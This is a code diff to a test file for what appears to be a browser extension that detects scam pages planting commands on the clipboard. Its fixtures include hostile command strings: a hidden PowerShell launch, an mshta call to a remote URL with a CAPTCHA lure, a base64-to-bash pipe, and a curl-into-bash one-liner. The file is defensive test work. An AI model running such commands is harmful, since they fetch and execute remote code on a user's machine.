@@ -1,7 +1,8 @@
 // @vitest-environment jsdom
 import { describe, expect, it, vi } from 'vitest';
 import { asContentMessage } from '../../../src/messages/validate';
-import { acts, claim, eachWithItsOwnGates, gates, listeners, open, SCAM, sent } from './gate-page';
+import { documentState } from '../../../src/content/document-state';
+import { acts, claim, eachWithItsOwnGates, gates, listeners, open, real, SCAM, sent } from './gate-page';
 
 eachWithItsOwnGates();
 let from = '';
@@ -52,17 +53,57 @@ describe('what the background is told of an act', () => {
     field.focus();
     claim('clipboard');
     expect(acts()).toMatchObject([{ act: 'clipboard', detail: 'powershell -w hidden' }]);
-    claim('clipboard', { detail: 'what it says itself' });
-    expect(acts().at(-1)?.detail).toBe('what it says itself');
+    claim('clipboard', { detail: 'cmd /c what it says itself' });
+    expect(acts().at(-1)?.detail).toBe('cmd /c what it says itself');
     claim('vibrate');
     expect(acts().at(-1)?.detail).toBe('');
+  });
+
+  it.each([
+    ['powershell -w hidden -c "x"'],
+    ['PowerShell.exe -ep bypass'],
+    ['C:\\WINDOWS\\system32\\cmd.exe /c start'],
+    ['mshta https://one.example/x # I am not a robot'],
+    ['echo "aGk=" | base64 -d | bash'],
+    ['/bin/bash -c "$(curl -fsSL https://one.example)"'],
+  ])('is a command that was copied: %s', (detail) => {
+    open('');
+    claim('clipboard', { detail });
+    expect(acts()).toMatchObject([{ act: 'clipboard', detail }]);
+  });
+
+  it.each([
+    ['correct horse battery staple'],
+    ['DE89 3704 0044 0532 0130 00'],
+    ['https://files.example/s/secret'],
+    ['Dear Anna, the curly one is mine.'],
+  ])('is nothing else that was copied: %s', (detail) => {
+    open('');
+    claim('clipboard', { detail });
+    expect(acts()).toMatchObject([{ act: 'clipboard', detail: '', count: 1 }]);
+    expect(documentState().dialogs).toEqual([]);
+  });
+
+  it('is not what somebody has typed, though it is a command', () => {
+    open('');
+    const [own, other] = [document.createElement('textarea'), document.createElement('textarea')];
+    own.value = 'curl -H "my secret" https://one.example';
+    other.value = 'curl https://two.example';
+    document.body.append(own, other);
+    real('input', { target: own });
+    own.focus();
+    claim('clipboard');
+    other.focus();
+    real('input', { target: other, isTrusted: false });
+    claim('clipboard');
+    expect(acts().map(({ detail }) => detail)).toEqual(['', 'curl https://two.example']);
   });
 
   it('is never a password', () => {
     open('');
     const field = document.createElement('input');
     field.type = 'password';
-    field.value = 'secret';
+    field.value = 'cmd secret';
     document.body.append(field);
     field.focus();
     claim('clipboard');
